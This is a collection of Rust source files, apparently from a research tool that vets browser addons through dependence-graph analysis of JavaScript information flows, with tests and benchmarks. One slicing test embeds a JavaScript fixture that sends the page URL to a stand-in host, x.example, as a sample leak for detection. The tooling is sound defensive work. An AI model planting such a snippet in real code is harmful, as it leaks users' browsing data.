        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataStrong);
        pdg.add(s(1), s(3), Annotation::DataWeak);
        pdg.add(s(2), s(3), LOCAL);
        pdg.add(s(4), s(3), NLI);
        pdg.add(s(3), s(5), Annotation::DataStrong);
        pdg
    }

    #[test]
    fn backward_slice_all() {
        let pdg = sample_pdg();
        let slice = backward_slice(&pdg, s(5), SliceFilter::All);
        assert_eq!(slice, [0, 1, 2, 3, 4, 5].map(s).into_iter().collect());
    }

    #[test]
    fn backward_slice_data_only_drops_control() {
        let pdg = sample_pdg();
        let slice = backward_slice(&pdg, s(5), SliceFilter::DataOnly);
        assert_eq!(slice, [0, 1, 3, 5].map(s).into_iter().collect());
    }

    #[test]
    fn backward_slice_local_control_keeps_local_drops_implicit() {
        let pdg = sample_pdg();
        let slice = backward_slice(&pdg, s(5), SliceFilter::DataAndLocalControl);
        assert!(slice.contains(&s(2)));
        assert!(!slice.contains(&s(4)));
    }

    #[test]
    fn forward_slice_works() {
        let pdg = sample_pdg();
        let slice = super::forward_slice(&pdg, s(0), SliceFilter::All);
        assert_eq!(slice, [0, 1, 3, 5].map(s).into_iter().collect());
    }

    #[test]
    fn chop_intersects() {
        let pdg = sample_pdg();
        let c = chop(&pdg, s(0), s(5), SliceFilter::All);
        assert_eq!(c, [0, 1, 3, 5].map(s).into_iter().collect());
        // Node 2 affects 5 but is not affected by 0.
        assert!(!c.contains(&s(2)));
    }

    #[test]
    fn witness_path_found_and_annotated() {
        let pdg = sample_pdg();
        let path = witness_path(&pdg, s(0), s(5), SliceFilter::All).expect("path");
        let nodes: Vec<StmtId> = path.iter().map(|(n, _)| *n).collect();
        assert_eq!(nodes, vec![s(0), s(1), s(3), s(5)]);
        // The first hop's annotation is the 0->1 edge.
        assert_eq!(path[0].1, Some(Annotation::DataStrong));
        assert_eq!(path[3].1, None, "sink has no outgoing hop");
    }

    #[test]
    fn witness_path_respects_filter() {
        let pdg = sample_pdg();
        assert!(witness_path(&pdg, s(2), s(5), SliceFilter::DataOnly).is_none());
        assert!(witness_path(&pdg, s(2), s(5), SliceFilter::All).is_some());
    }

    #[test]
    fn no_path_returns_none() {
        let pdg = sample_pdg();
        assert!(witness_path(&pdg, s(5), s(0), SliceFilter::All).is_none());
    }

    #[test]
    fn end_to_end_slice_on_real_program() {
        let ast = jsparser::parse(
            r#"
var secret = content.location.href;
var harmless = 42;
var msg = "u=" + secret;
var r = XHRWrapper("http://x.example/api");
r.send(msg);
use_global(harmless);
"#,
        )
        .unwrap();
        let lowered = jsir::lower(&ast);
        let analysis = jsanalysis::analyze(&lowered, &jsanalysis::AnalysisConfig::default());
        let pdg = Pdg::build(&lowered, &analysis);
        // Slice backward from the send call.
        let send = lowered
            .program
            .stmts
            .iter()
            .rfind(|st| {
                matches!(&st.kind, jsir::IrStmtKind::Call { .. }) && st.span.line == 6
            })
            .expect("send call");
        let slice = backward_slice(&pdg, send.id, SliceFilter::DataOnly);
        let lines: BTreeSet<u32> = slice
            .iter()
            .map(|s| lowered.program.stmt(*s).span.line)
            .collect();
        assert!(lines.contains(&2), "secret def in slice");
        assert!(lines.contains(&4), "msg construction in slice");
        assert!(!lines.contains(&7), "unrelated statement not in slice");
    }
}
