//! The annotated Program Dependence Graph (Section 3): the union of the
//! annotated DDG and the staged, annotated CDG.

use crate::annotation::{Annotation, CtrlKind};
use crate::cdg::{build_cdg, CtrlDep};
use crate::ddg::{build_ddg, DataDep};
use crate::supergraph::SuperGraph;
use jsanalysis::AnalysisResult;
use jsir::{Lowered, StmtId};
use sigtrace::{Counter, Counters, Trace};
use std::collections::{BTreeMap, BTreeSet};

/// One annotated PDG edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct PdgEdge {
    /// Source statement.
    pub from: StmtId,
    /// Target statement.
    pub to: StmtId,
    /// The edge's annotation.
    pub ann: Annotation,
}

/// The annotated program dependence graph.
#[derive(Debug, Clone, Default)]
pub struct Pdg {
    edges: BTreeSet<PdgEdge>,
    succs: BTreeMap<StmtId, Vec<(StmtId, Annotation)>>,
    preds: BTreeMap<StmtId, Vec<(StmtId, Annotation)>>,
}

impl Pdg {
    /// Builds the annotated PDG for an analyzed program.
    pub fn build(lowered: &Lowered, analysis: &AnalysisResult) -> Pdg {
        Pdg::build_traced(lowered, analysis, &mut Trace::Off)
    }

    /// Builds the annotated PDG with an observability hook: `trace`
    /// receives the stage sub-spans (`supergraph` / `ddg` / `cdg`) and
    /// the per-kind edge counters. With [`Trace::Off`] this is
    /// [`Pdg::build`].
    pub fn build_traced(
        lowered: &Lowered,
        analysis: &AnalysisResult,
        trace: &mut Trace<'_>,
    ) -> Pdg {
        trace.span_start("supergraph");
        let sg = SuperGraph::build(lowered, analysis);
        trace.span_end("supergraph");
        let mut pdg = Pdg::default();
        trace.span_start("ddg");
        for DataDep { from, to, strong } in build_ddg(&sg, analysis) {
            pdg.add(
                from,
                to,
                if strong {
                    Annotation::DataStrong
                } else {
                    Annotation::DataWeak
                },
            );
        }
        trace.span_end("ddg");
        trace.span_start("cdg");
        for dep in build_cdg(lowered, analysis, &sg) {
            let CtrlDep { from, to, .. } = dep;
            pdg.add(from, to, dep.annotation());
        }
        trace.span_end("cdg");
        if trace.is_enabled() {
            trace.add_counters(&pdg.edge_kind_counters());
        }
        pdg
    }

    /// Tallies the PDG's edges into the per-kind [`Counters`]. These
    /// counts measure the fixpoint's *output*, so they are identical
    /// across worklist orders (unlike the phase-1 step counters).
    pub fn edge_kind_counters(&self) -> Counters {
        let mut counters = Counters::new();
        for e in &self.edges {
            let c = match e.ann {
                Annotation::DataStrong => Counter::PdgDataStrongEdges,
                Annotation::DataWeak => Counter::PdgDataWeakEdges,
                Annotation::Ctrl { kind: CtrlKind::Local, .. } => Counter::PdgCtrlLocalEdges,
                Annotation::Ctrl { kind: CtrlKind::NonLocExp, .. } => {
                    Counter::PdgCtrlNonLocExpEdges
                }
                Annotation::Ctrl { kind: CtrlKind::NonLocImp, .. } => {
                    Counter::PdgCtrlNonLocImpEdges
                }
            };
            counters.add(c, 1);
            if matches!(e.ann, Annotation::Ctrl { amp: true, .. }) {
                counters.add(Counter::PdgCtrlAmplifiedEdges, 1);
            }
        }
        counters
    }

    /// Adds an edge (idempotent).
    pub fn add(&mut self, from: StmtId, to: StmtId, ann: Annotation) {
        if self.edges.insert(PdgEdge { from, to, ann }) {
            self.succs.entry(from).or_default().push((to, ann));
            self.preds.entry(to).or_default().push((from, ann));
        }
    }

    /// All edges in deterministic order.
    pub fn edges(&self) -> impl Iterator<Item = &PdgEdge> {
        self.edges.iter()
    }

    /// Outgoing edges of a statement.
    pub fn succs(&self, s: StmtId) -> &[(StmtId, Annotation)] {
        self.succs.get(&s).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Incoming edges of a statement.
    pub fn preds(&self, s: StmtId) -> &[(StmtId, Annotation)] {
        self.preds.get(&s).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Number of edges.
    pub fn edge_count(&self) -> usize {
        self.edges.len()
    }

    /// All statements participating in at least one edge.
    pub fn nodes(&self) -> BTreeSet<StmtId> {
        self.edges
            .iter()
            .flat_map(|e| [e.from, e.to])
            .collect()
    }

    /// True if `to` is reachable from `from` along any PDG path.
    pub fn reaches(&self, from: StmtId, to: StmtId) -> bool {
        let mut seen = BTreeSet::new();
        let mut stack = vec![from];
        while let Some(s) = stack.pop() {
            if s == to {
                return true;
            }
            if seen.insert(s) {
                stack.extend(self.succs(s).iter().map(|(t, _)| *t));
            }
        }
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::annotation::CtrlKind;
    use jsanalysis::{analyze, AnalysisConfig};

    fn build(src: &str) -> (Lowered, Pdg) {
        let ast = jsparser::parse(src).unwrap();
        let lowered =
            jsir::lower_with_options(&ast, &jsir::LowerOptions { event_loop: false });
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let pdg = Pdg::build(&lowered, &analysis);
        (lowered, pdg)
    }

    #[test]
    fn union_of_ddg_and_cdg() {
        let (_, pdg) = build(
            "var a = input_global; if (Math.random() < 0.5) { out_global = a; }",
        );
        assert!(pdg.edges().any(|e| e.ann.is_data()));
        assert!(pdg.edges().any(|e| !e.ann.is_data()));
        assert!(pdg.edge_count() > 2);
    }

    #[test]
    fn adjacency_is_consistent() {
        let (_, pdg) = build("var a = 1; var b = a; var c = b;");
        for e in pdg.edges() {
            assert!(pdg.succs(e.from).iter().any(|(t, a)| *t == e.to && *a == e.ann));
            assert!(pdg.preds(e.to).iter().any(|(f, a)| *f == e.from && *a == e.ann));
        }
    }

    #[test]
    fn reachability_via_mixed_edges() {
        // Implicit flow: source -> branch (data), branch -> sink (control).
        let (lowered, pdg) = build(
            r#"
var secret = input_global;
if (secret == "x") { leak_global = 1; }
"#,
        );
        let first_copy = lowered
            .program
            .stmts
            .iter()
            .find(|s| matches!(&s.kind, jsir::IrStmtKind::Copy { dst: jsir::Place::Var(_), .. }))
            .unwrap()
            .id;
        let leak = lowered
            .program
            .stmts
            .iter()
            .find(|s| {
                matches!(&s.kind, jsir::IrStmtKind::Copy { dst: jsir::Place::Global(g), .. } if g == "leak_global")
            })
            .unwrap()
            .id;
        assert!(
            pdg.reaches(first_copy, leak),
            "implicit flow must be a PDG path"
        );
        // And at least one control edge participates.
        assert!(pdg
            .edges()
            .any(|e| matches!(e.ann, Annotation::Ctrl { kind: CtrlKind::Local, .. })));
    }
}
