//! Graphviz (DOT) export for annotated PDGs and CFGs, for human
//! inspection of small addons (the vetter's visual aid; Figure 2 of the
//! paper is exactly such a rendering).

use crate::annotation::{Annotation, CtrlKind};
use crate::pdg::Pdg;
use jsir::{Cfg, EdgeKind, IrProgram, StmtId};
use std::collections::BTreeSet;
use std::fmt::Write as _;

/// Style (color/shape) for one annotation.
fn edge_style(ann: Annotation) -> &'static str {
    match ann {
        Annotation::DataStrong => "color=black, penwidth=2",
        Annotation::DataWeak => "color=black, style=dashed",
        Annotation::Ctrl {
            kind: CtrlKind::Local,
            amp: false,
        } => "color=blue",
        Annotation::Ctrl {
            kind: CtrlKind::Local,
            amp: true,
        } => "color=blue, penwidth=2",
        Annotation::Ctrl {
            kind: CtrlKind::NonLocExp,
            amp: false,
        } => "color=orange",
        Annotation::Ctrl {
            kind: CtrlKind::NonLocExp,
            amp: true,
        } => "color=orange, penwidth=2",
        Annotation::Ctrl {
            kind: CtrlKind::NonLocImp,
            amp: false,
        } => "color=red, style=dotted",
        Annotation::Ctrl {
            kind: CtrlKind::NonLocImp,
            amp: true,
        } => "color=red, style=dotted, penwidth=2",
    }
}

fn escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// Renders the PDG as a DOT digraph. Node labels use the IR
/// pretty-printer plus the source line.
pub fn pdg_to_dot(program: &IrProgram, pdg: &Pdg) -> String {
    let mut out = String::from("digraph pdg {\n  node [shape=box, fontsize=10];\n");
    let nodes: BTreeSet<StmtId> = pdg.nodes();
    for n in &nodes {
        let stmt = program.stmt(*n);
        let label = format!(
            "L{}: {}",
            stmt.span.line,
            jsir::pretty::stmt_to_string(program, *n)
        );
        let _ = writeln!(out, "  n{} [label=\"{}\"];", n.0, escape(&label));
    }
    for e in pdg.edges() {
        let _ = writeln!(
            out,
            "  n{} -> n{} [label=\"{}\", {}];",
            e.from.0,
            e.to.0,
            e.ann,
            edge_style(e.ann)
        );
    }
    out.push_str("}\n");
    out
}

/// Renders a CFG as a DOT digraph with edge kinds.
pub fn cfg_to_dot(program: &IrProgram, cfg: &Cfg) -> String {
    let mut out = String::from("digraph cfg {\n  node [shape=box, fontsize=10];\n");
    let mut nodes: BTreeSet<StmtId> = BTreeSet::new();
    for e in cfg.edges() {
        nodes.insert(e.from);
        nodes.insert(e.to);
    }
    for n in &nodes {
        let label = jsir::pretty::stmt_to_string(program, *n);
        let _ = writeln!(out, "  n{} [label=\"{}\"];", n.0, escape(&label));
    }
    for e in cfg.edges() {
        let style = match e.kind {
            EdgeKind::Seq | EdgeKind::Virtual => "color=black",
            EdgeKind::BranchTrue => "color=darkgreen, label=T",
            EdgeKind::BranchFalse => "color=darkgreen, label=F",
            EdgeKind::Jump | EdgeKind::Return => "color=blue, style=dashed",
            EdgeKind::ThrowExplicit => "color=orange, style=dashed",
            EdgeKind::ThrowImplicit => "color=red, style=dotted",
            EdgeKind::Uncaught => "color=gray, style=dotted",
        };
        let _ = writeln!(out, "  n{} -> n{} [{}];", e.from.0, e.to.0, style);
    }
    out.push_str("}\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn build(src: &str) -> (jsir::Lowered, Pdg) {
        let ast = jsparser::parse(src).unwrap();
        let lowered =
            jsir::lower_with_options(&ast, &jsir::LowerOptions { event_loop: false });
        let analysis = jsanalysis::analyze(&lowered, &jsanalysis::AnalysisConfig::default());
        let pdg = Pdg::build(&lowered, &analysis);
        (lowered, pdg)
    }

    #[test]
    fn pdg_dot_well_formed() {
        let (lowered, pdg) = build("var a = input_global; if (a) { out_global = a; }");
        let dot = pdg_to_dot(&lowered.program, &pdg);
        assert!(dot.starts_with("digraph pdg {"));
        assert!(dot.trim_end().ends_with('}'));
        assert!(dot.contains("data_strong") || dot.contains("data_weak"));
        assert!(dot.contains("local"));
        // Every declared node id appears; braces balanced.
        assert_eq!(dot.matches("digraph").count(), 1);
    }

    #[test]
    fn cfg_dot_well_formed() {
        let (lowered, _) = build("if (x_global) { a_global = 1; } else { a_global = 2; }");
        let dot = cfg_to_dot(&lowered.program, &lowered.cfg);
        assert!(dot.starts_with("digraph cfg {"));
        assert!(dot.contains("label=T"));
        assert!(dot.contains("label=F"));
    }

    #[test]
    fn quotes_escaped() {
        let (lowered, pdg) = build("var s = \"he said \\\"hi\\\"\";");
        let dot = pdg_to_dot(&lowered.program, &pdg);
        // Unescaped quotes must be balanced on every line, or DOT breaks.
        for line in dot.lines() {
            let bytes = line.as_bytes();
            let mut unescaped = 0;
            for (i, b) in bytes.iter().enumerate() {
                if *b == b'"' && (i == 0 || bytes[i - 1] != b'\\') {
                    unescaped += 1;
                }
            }
            assert!(unescaped % 2 == 0, "unbalanced quotes in: {line}");
        }
        assert!(dot.contains("\\\""), "inner quotes are escaped");
    }
}
