//! PDG edge annotations (the annotation grammar of Section 3.1).

use std::fmt;

/// Control-dependence provenance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum CtrlKind {
    /// Structured local control flow (conditionals, loops).
    Local,
    /// Explicit non-local control flow (`break`/`continue`/`return`/
    /// explicit `throw`).
    NonLocExp,
    /// Implicit exceptions.
    NonLocImp,
}

impl fmt::Display for CtrlKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CtrlKind::Local => write!(f, "local"),
            CtrlKind::NonLocExp => write!(f, "nonlocexp"),
            CtrlKind::NonLocImp => write!(f, "nonlocimp"),
        }
    }
}

/// An edge annotation:
///
/// ```text
/// ann     ::= data | control
/// data    ::= datastrong | dataweak
/// control ::= ctrl | ctrl^amp
/// ctrl    ::= local | nonlocexp | nonlocimp
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Annotation {
    /// Definite data dependence on a single concrete location.
    DataStrong,
    /// Possible data dependence.
    DataWeak,
    /// Control dependence of the given kind; `amp` marks edges whose
    /// source lies on a CFG cycle (amplifiable beyond one bit).
    Ctrl {
        /// Which control-flow construct induced the edge.
        kind: CtrlKind,
        /// Amplified (source inside a cycle)?
        amp: bool,
    },
}

impl Annotation {
    /// All eight possible annotations, in lattice-friendly order.
    pub const ALL: [Annotation; 8] = [
        Annotation::DataStrong,
        Annotation::DataWeak,
        Annotation::Ctrl {
            kind: CtrlKind::Local,
            amp: true,
        },
        Annotation::Ctrl {
            kind: CtrlKind::Local,
            amp: false,
        },
        Annotation::Ctrl {
            kind: CtrlKind::NonLocExp,
            amp: true,
        },
        Annotation::Ctrl {
            kind: CtrlKind::NonLocExp,
            amp: false,
        },
        Annotation::Ctrl {
            kind: CtrlKind::NonLocImp,
            amp: true,
        },
        Annotation::Ctrl {
            kind: CtrlKind::NonLocImp,
            amp: false,
        },
    ];

    /// True for data-dependence annotations.
    pub fn is_data(self) -> bool {
        matches!(self, Annotation::DataStrong | Annotation::DataWeak)
    }
}

impl fmt::Display for Annotation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Annotation::DataStrong => write!(f, "data_strong"),
            Annotation::DataWeak => write!(f, "data_weak"),
            Annotation::Ctrl { kind, amp: false } => write!(f, "{kind}"),
            Annotation::Ctrl { kind, amp: true } => write!(f, "{kind}^amp"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eight_annotations() {
        assert_eq!(Annotation::ALL.len(), 8);
        let set: std::collections::BTreeSet<_> = Annotation::ALL.into_iter().collect();
        assert_eq!(set.len(), 8);
    }

    #[test]
    fn display() {
        assert_eq!(Annotation::DataStrong.to_string(), "data_strong");
        assert_eq!(
            Annotation::Ctrl {
                kind: CtrlKind::NonLocExp,
                amp: true
            }
            .to_string(),
            "nonlocexp^amp"
        );
        assert_eq!(
            Annotation::Ctrl {
                kind: CtrlKind::Local,
                amp: false
            }
            .to_string(),
            "local"
        );
    }

    #[test]
    fn classification() {
        assert!(Annotation::DataWeak.is_data());
        assert!(!Annotation::Ctrl {
            kind: CtrlKind::Local,
            amp: false
        }
        .is_data());
    }
}
