//! Criterion benchmarks for the whole pipeline per benchmark addon --
//! the end-to-end cost a vetting queue would pay per submission.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench_pipeline(c: &mut Criterion) {
    let mut group = c.benchmark_group("pipeline");
    group.sample_size(10);
    for addon in corpus::addons() {
        group.bench_function(addon.name, |b| {
            b.iter(|| {
                let report = addon_sig::analyze_addon(addon.source).expect("pipeline");
                std::hint::black_box(report.signature.flows.len())
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench_pipeline);
criterion_main!(benches);
