//! Criterion benchmarks for the paper's three analysis phases, measured
//! separately (Table 2's P1/P2/P3 columns): P1 the base abstract
//! interpretation, P2 annotated-PDG construction, P3 signature inference.

use criterion::{criterion_group, criterion_main, Criterion};
use jsanalysis::AnalysisConfig;
use jssig::FlowLattice;

fn bench_phases(c: &mut Criterion) {
    let config = AnalysisConfig::default();
    let lattice = FlowLattice::paper();

    let mut p1 = c.benchmark_group("p1_base_analysis");
    p1.sample_size(10);
    for addon in corpus::addons() {
        let ast = jsparser::parse(addon.source).expect("parses");
        let lowered = jsir::lower(&ast);
        p1.bench_function(addon.name, |b| {
            b.iter(|| std::hint::black_box(jsanalysis::analyze(&lowered, &config)))
        });
    }
    p1.finish();

    let mut p2 = c.benchmark_group("p2_pdg_construction");
    p2.sample_size(10);
    for addon in corpus::addons() {
        let ast = jsparser::parse(addon.source).expect("parses");
        let lowered = jsir::lower(&ast);
        let analysis = jsanalysis::analyze(&lowered, &config);
        p2.bench_function(addon.name, |b| {
            b.iter(|| std::hint::black_box(jspdg::Pdg::build(&lowered, &analysis)))
        });
    }
    p2.finish();

    let mut p3 = c.benchmark_group("p3_signature_inference");
    p3.sample_size(10);
    for addon in corpus::addons() {
        let ast = jsparser::parse(addon.source).expect("parses");
        let lowered = jsir::lower(&ast);
        let analysis = jsanalysis::analyze(&lowered, &config);
        let pdg = jspdg::Pdg::build(&lowered, &analysis);
        p3.bench_function(addon.name, |b| {
            b.iter(|| {
                std::hint::black_box(jssig::infer_signature(
                    &lowered, &analysis, &pdg, &lattice,
                ))
            })
        });
    }
    p3.finish();
}

criterion_group!(benches, bench_phases);
criterion_main!(benches);
