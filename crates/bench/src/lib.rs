//! Shared helpers for the table-regeneration binaries and Criterion
//! benches: the paper's timing methodology (11 runs, discard the first,
//! report the median -- Section 6.2).

#![warn(missing_docs)]

use std::time::Duration;

/// Runs `f` the paper's way: `runs + 1` times, discarding the first
/// (warm-up) result and returning the median of the rest.
pub fn median_timing<T>(runs: usize, mut f: impl FnMut() -> (T, Duration)) -> (T, Duration) {
    let (_, _) = f(); // discarded warm-up, as in the paper
    let mut results: Vec<(T, Duration)> = (0..runs).map(|_| f()).collect();
    results.sort_by_key(|(_, d)| *d);
    let mid = results.len() / 2;
    results.swap_remove(mid)
}

/// Renders a duration in seconds with one decimal, Table 2 style.
pub fn secs(d: Duration) -> String {
    format!("{:.2}", d.as_secs_f64())
}

/// Per-addon measurement row for Table 2.
pub struct Table2Row {
    /// Addon name.
    pub name: String,
    /// Verdict string (pass/fail/leak).
    pub result: String,
    /// Base-analysis time.
    pub p1: Duration,
    /// PDG-construction time.
    pub p2: Duration,
    /// Signature-inference time.
    pub p3: Duration,
}

/// Measures one addon with the paper's methodology and compares against
/// its manual signature.
pub fn measure_addon(addon: &corpus::Addon, runs: usize) -> Table2Row {
    let (report, _) = median_timing(runs, || {
        let start = std::time::Instant::now();
        let report = addon_sig::analyze_addon(addon.source).expect("pipeline");
        (report, start.elapsed())
    });
    let cmp = jssig::compare(
        &report.signature,
        &addon.manual,
        addon.real_extra_flow,
        addon.real_extra_sink,
    );
    Table2Row {
        name: addon.name.to_owned(),
        result: cmp.verdict.to_string(),
        p1: report.timings.p1,
        p2: report.timings.p2,
        p3: report.timings.p3,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn median_of_odd_runs() {
        let mut calls = 0;
        let (_, d) = median_timing(3, || {
            calls += 1;
            ((), Duration::from_millis(calls))
        });
        assert_eq!(calls, 4, "warm-up + 3 measured runs");
        // Durations 2,3,4 after warm-up: median 3.
        assert_eq!(d, Duration::from_millis(3));
    }

    #[test]
    fn secs_format() {
        assert_eq!(secs(Duration::from_millis(1500)), "1.50");
    }
}
