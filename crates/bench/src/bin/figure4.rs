//! Prints the flow-type lattice of the paper's Figure 4: each type's
//! allowed edge annotations, the Hasse ordering, and the paper's
//! `extend` / `max` examples.

use jssig::{FlowLattice, FlowType};

fn main() {
    let l = FlowLattice::paper();
    println!("Flow-type lattice (paper Figure 4)\n");
    for i in 0..l.len() as u8 {
        let t = FlowType(i);
        let spec = l.spec(t);
        let anns: Vec<String> = spec.allowed.iter().map(|a| a.to_string()).collect();
        println!("  {:<6} allows: {}", t.to_string(), anns.join(", "));
    }
    println!("\nHasse ordering (a > b = a strictly stronger):");
    for a in 0..l.len() as u8 {
        for b in 0..l.len() as u8 {
            if a == b {
                continue;
            }
            let (ta, tb) = (FlowType(a), FlowType(b));
            if l.stronger_or_equal(ta, tb) {
                // Only immediate (covering) relations for readability.
                let covering = !(0..l.len() as u8).any(|c| {
                    c != a
                        && c != b
                        && l.stronger_or_equal(ta, FlowType(c))
                        && l.stronger_or_equal(FlowType(c), tb)
                });
                if covering {
                    println!("  {ta} > {tb}");
                }
            }
        }
    }
    println!("\nPaper examples:");
    let nle_amp = jspdg::Annotation::Ctrl {
        kind: jspdg::CtrlKind::NonLocExp,
        amp: true,
    };
    println!(
        "  extend(type4, nonlocexp^amp) = {}",
        l.extend(FlowType(3), nle_amp)
    );
    println!(
        "  extend(type3, nonlocexp^amp) = {}",
        l.extend(FlowType(2), nle_amp)
    );
    let set = [FlowType(3), FlowType(4), FlowType(5)].into_iter().collect();
    let m: Vec<String> = l.max(&set).iter().map(|t| t.to_string()).collect();
    println!("  max({{type4, type5, type6}}) = {{{}}}", m.join(", "));
}
