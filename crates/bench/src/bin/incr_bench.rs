//! Incremental re-vetting benchmark, std-only (no criterion).
//!
//! Measures the per-function summary store end to end: every corpus
//! addon is vetted cold, the store is populated, and then a sequence of
//! synthetic edits is resubmitted through the store — the resubmission
//! path an addon market sees when a developer pushes a one-line patch.
//! For each warm run the harness checks the signature is *bit-identical*
//! to a cold vetting of the same source (the store is an optimization,
//! never an oracle) and records worklist steps, summary hits/misses and
//! the number of functions actually re-analyzed.
//!
//! The hard gate runs on a synthetic many-function addon: editing one
//! string literal in one leaf function must re-step less than 20% of the
//! cold run's fixpoint steps. The corpus rows are recorded without a
//! ratio gate (several corpus addons keep most statements at top level,
//! which by design never splices), but every one must keep
//! `functions_reanalyzed < total_functions` on a warm resubmission.
//!
//! Writes `BENCH_incremental.json` at the repo root.
//!
//! Flags:
//! - `--out PATH`  where to write the JSON (default
//!                 `<repo root>/BENCH_incremental.json`)

use jsanalysis::MemorySummaryStore;
use minijson::Json;
use std::sync::Arc;
use std::time::Instant;

/// What one pipeline run produced, cold or warm.
struct Run {
    signature: String,
    steps: usize,
    wall_us: u64,
    incremental: Option<jsanalysis::IncrementalStats>,
}

fn run(source: &str, store: Option<&Arc<MemorySummaryStore>>) -> Run {
    let mut pipeline = addon_sig::Pipeline::new();
    if let Some(store) = store {
        pipeline = pipeline.summary_store(Arc::clone(store) as Arc<dyn jsanalysis::SummaryStore>);
    }
    let start = Instant::now();
    let report = pipeline.run(source).expect("pipeline");
    let wall_us = start.elapsed().as_micros() as u64;
    Run {
        signature: report.signature.to_string(),
        steps: report.analysis.steps,
        wall_us,
        incremental: report.incremental,
    }
}

/// The synthetic edit sequence every addon is resubmitted through.
/// Each edit appends to (or leaves alone) the original source, so the
/// unedited functions' summaries stay valid and should splice.
fn edits(source: &str) -> Vec<(&'static str, String)> {
    vec![
        // The no-op resubmission: same bytes, different day.
        ("resubmit", source.to_owned()),
        // A one-line top-level patch; function bodies are untouched.
        ("toplevel_edit", format!("{source}\nvar __benchEdit = 1;\n")),
        // A brand-new function: everything existing should splice.
        (
            "new_function",
            format!("{source}\nfunction __benchProbe(x) {{ return x + 1; }}\n"),
        ),
    ]
}

/// A many-function synthetic addon: `n` leaf functions with string-heavy
/// bodies plus a small top-level driver. The interesting case for
/// incremental re-vetting — most of the program lives in functions whose
/// summaries splice when a sibling is edited. Each body carries a dead
/// `probe` literal so the benchmark can model a patch that changes a
/// function's content hash without perturbing any value that escapes it.
fn synthetic_addon(n: usize) -> String {
    let mut src = String::new();
    for i in 0..n {
        src.push_str(&format!(
            "function worker{i}(seed) {{\n\
             \x20 var probe = 'probe-{i}';\n\
             \x20 var tag = 'worker-{i}';\n\
             \x20 var b1 = tag + ':' + seed;\n\
             \x20 var b2 = b1 + '/a';\n\
             \x20 var b3 = b2 + '/b';\n\
             \x20 var b4 = b3 + '/c';\n\
             \x20 var b5 = b4 + '/d';\n\
             \x20 var b6 = b5 + '/e';\n\
             \x20 var b7 = b6 + '/f';\n\
             \x20 var b8 = b7 + '/g';\n\
             \x20 var out = '';\n\
             \x20 if (seed) {{ out = b8 + '/hot'; }} else {{ out = b8 + '/cold'; }}\n\
             \x20 var trail = out + '#' + tag;\n\
             \x20 return trail;\n\
             }}\n"
        ));
    }
    for i in 0..n {
        src.push_str(&format!("worker{i}({});\n", i % 2));
    }
    src
}

fn stats_json(run: &Run) -> Json {
    let mut row = Json::obj();
    row.set("steps", Json::from(run.steps as f64));
    row.set("wall_us", Json::from(run.wall_us as f64));
    if let Some(s) = &run.incremental {
        row.set("summary_hits", Json::from(s.summary_hits as f64));
        row.set("summary_misses", Json::from(s.summary_misses as f64));
        row.set("functions_reanalyzed", Json::from(s.functions_reanalyzed as f64));
        row.set("total_functions", Json::from(s.total_functions as f64));
        row.set("abandoned", Json::from(s.abandoned as f64));
    }
    row
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut out: Option<String> = None;
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--out" => {
                i += 1;
                out = Some(args[i].clone());
            }
            other => {
                eprintln!("unknown flag {other}");
                std::process::exit(2);
            }
        }
        i += 1;
    }
    let out = out.unwrap_or_else(|| {
        format!("{}/../../BENCH_incremental.json", env!("CARGO_MANIFEST_DIR"))
    });

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    let mut failures = 0usize;

    println!(
        "{:<22} {:<14} {:>9} {:>9} {:>7} {:>7} {:>12}",
        "addon", "edit", "cold", "warm", "hits", "miss", "reanalyzed"
    );

    let mut addons_json = Json::obj();
    for addon in corpus::addons() {
        let store = Arc::new(MemorySummaryStore::new(4096));
        // Populating pass: a cold run that also extracts summaries.
        let populate = run(addon.source, Some(&store));
        let mut row = Json::obj();
        row.set("populate", stats_json(&populate));
        let mut edits_json = Json::obj();
        for (label, edited) in edits(addon.source) {
            let cold = run(&edited, None);
            let warm = run(&edited, Some(&store));
            // The golden contract: spliced and cold signatures are
            // bit-identical for every addon and every edit.
            if warm.signature != cold.signature {
                eprintln!("FAIL: {}/{label}: warm signature differs from cold", addon.name);
                failures += 1;
            }
            let stats = warm.incremental.as_ref().expect("warm run has stats");
            if stats.functions_reanalyzed >= stats.total_functions && stats.total_functions > 1 {
                eprintln!(
                    "FAIL: {}/{label}: warm run re-analyzed all {} functions",
                    addon.name, stats.total_functions
                );
                failures += 1;
            }
            println!(
                "{:<22} {:<14} {:>9} {:>9} {:>7} {:>7} {:>7}/{}",
                addon.name,
                label,
                cold.steps,
                warm.steps,
                stats.summary_hits,
                stats.summary_misses,
                stats.functions_reanalyzed,
                stats.total_functions
            );
            let mut edit_row = Json::obj();
            edit_row.set("cold_steps", Json::from(cold.steps as f64));
            edit_row.set("cold_wall_us", Json::from(cold.wall_us as f64));
            edit_row.set("warm", stats_json(&warm));
            edit_row.set(
                "step_ratio_pct",
                Json::from((warm.steps as f64 / cold.steps as f64 * 10000.0).round() / 100.0),
            );
            let speedup = cold.wall_us as f64 / warm.wall_us.max(1) as f64;
            edit_row.set("wall_speedup", Json::from((speedup * 100.0).round() / 100.0));
            edits_json.set(label, edit_row);
        }
        row.set("edits", edits_json);
        addons_json.set(addon.name, row);
    }
    doc.set("addons", addons_json);

    // The single-function-edit gate, on the function-heavy synthetic
